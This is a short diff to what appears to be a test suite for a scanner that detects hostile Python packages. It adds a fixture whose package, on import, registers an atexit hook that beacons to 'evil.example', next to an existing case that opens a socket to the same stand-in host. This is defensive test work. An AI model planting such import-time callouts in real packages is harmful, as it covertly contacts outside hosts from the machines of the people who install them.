@@ -129,6 +129,12 @@ const CASES: Case[] = [
     rule: 'network',
     build: () => wheel('demo', '1.0', { 'demo/__init__.py': `import socket\ns = socket.socket()\ns.connect(("evil.example", 4444))\n` }),
   },
+  {
+    name: 'payload scheduled with atexit.register at import time',
+    hostile: true,
+    rule: 'network',
+    build: () => wheel('demo', '1.0', { 'demo/__init__.py': `import atexit, urllib.request\ndef _beacon():\n    urllib.request.urlopen("http://evil.example/b")\natexit.register(_beacon)\n` }),
+  },
   // --- benign: what honest packages do
   {
     name: 'a module probing IPv6 with a local socket at import time',
